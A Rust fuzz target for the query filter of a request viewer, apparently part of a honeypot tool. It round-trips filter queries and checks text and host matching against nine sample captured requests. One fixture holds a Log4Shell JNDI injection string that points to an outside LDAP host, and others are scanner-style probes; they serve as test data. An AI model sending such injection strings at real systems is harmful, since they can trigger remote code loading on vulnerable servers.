//! Reads the query of a page: every query is a filter or an error in words, and the links of the
//! page give the same filter again.
#![no_main]

use std::net::Ipv4Addr;
use std::sync::LazyLock;

use axum::extract::Query;
use axum::http::Uri;
use forever200_decode::{Limits, decode};
use forever200_fuzz::entry;
use forever200_viewer::page::filter::{Field, Filter, FilterQuery};
use forever200_viewer::reader::Entry;
use libfuzzer_sys::fuzz_target;

static ENTRIES: LazyLock<Vec<Entry>> = LazyLock::new(|| {
    let raws: [&[u8]; 9] = [
        b"",
        b"GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: ${jndi:ldap://203.0.113.9/a}\r\n\r\n",
        b"POST /cgi-bin/x?y=%41 HTTP/1.0\r\nContent-Length: 3\r\n\r\na=b",
        b"GET /\xff\xe2\x80\xae HTTP/1.1\r\n\r\n",
        b"\x16\x03\x01\0\x2d\x01\0\0\x29\x03\x03",
        b"\x03\0\0\x13\x0e\xe0\0\0\0\0\0\x01\0\x08\0\x03\0\0\0",
        b"SSH-2.0-Go\r\n",
        b"CONNECT a.example:443 HTTP/1.1\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n",
    ];
    raws.iter()
        .zip(1..)
        .map(|(raw, seq)| entry(seq, raw))
        .collect()
});

/// Returns what a search for text reads: the bytes, and what they hide in an encoding.
fn texts(entry: &Entry) -> Vec<Vec<u8>> {
    let raw = &entry.record.raw;
    let parts = decode(raw, entry.http.is_some(), Limits::DESCRIBED);
    let mut texts = vec![raw.to_vec()];
    texts.extend(parts.into_iter().map(|part| part.bytes.to_vec()));
    texts
}

/// Tells whether `text`, in lower case, is in these bytes. Ignores the case of ASCII letters.
fn contains(bytes: &[u8], text: &str) -> bool {
    bytes
        .windows(text.len())
        .any(|part| part.eq_ignore_ascii_case(text.as_bytes()))
}

fuzz_target!(|query: &[u8]| {
    let Ok(uri) = Uri::try_from([b"/home?", query].concat()) else {
        return;
    };
    let Ok(Query(query)) = Query::<FilterQuery>::try_from_uri(&uri) else {
        return;
    };
    let again: FilterQuery = serde_urlencoded::from_str(&query.encoded()).expect("a link of ours");
    assert_eq!(again, query);
    for kept in query.link_beginnings().values() {
        serde_urlencoded::from_str::<FilterQuery>(kept).expect("a link of ours");
    }
    let filter = match Filter::new(&query, Ipv4Addr::LOCALHOST.into()) {
        Ok(filter) => filter,
        Err(error) => return assert!(error.contains(": expected "), "{error}"),
    };
    let found: Vec<_> = ENTRIES.iter().map(|entry| filter.matches(entry)).collect();
    match query.conditions() {
        [] => assert!(found.iter().all(|&found| found)),
        [asked] if asked.field == Field::Text && !asked.value.contains('\\') => {
            let text = asked.value.to_ascii_lowercase();
            for (entry, found) in ENTRIES.iter().zip(found) {
                let is_in = texts(entry).iter().any(|bytes| contains(bytes, &text));
                assert_eq!(
                    is_in != asked.excludes,
                    found,
                    "{text} in {}",
                    entry.summary
                );
            }
        }
        [asked] if asked.field == Field::Host && !asked.value.trim().is_empty() => {
            let is_none = asked.value.trim().eq_ignore_ascii_case("none");
            for (entry, found) in ENTRIES.iter().zip(found) {
                let is_met = found != asked.excludes;
                assert!(!is_met || is_none == entry.asked_for.is_none());
            }
        }
        _ => {}
    }
});
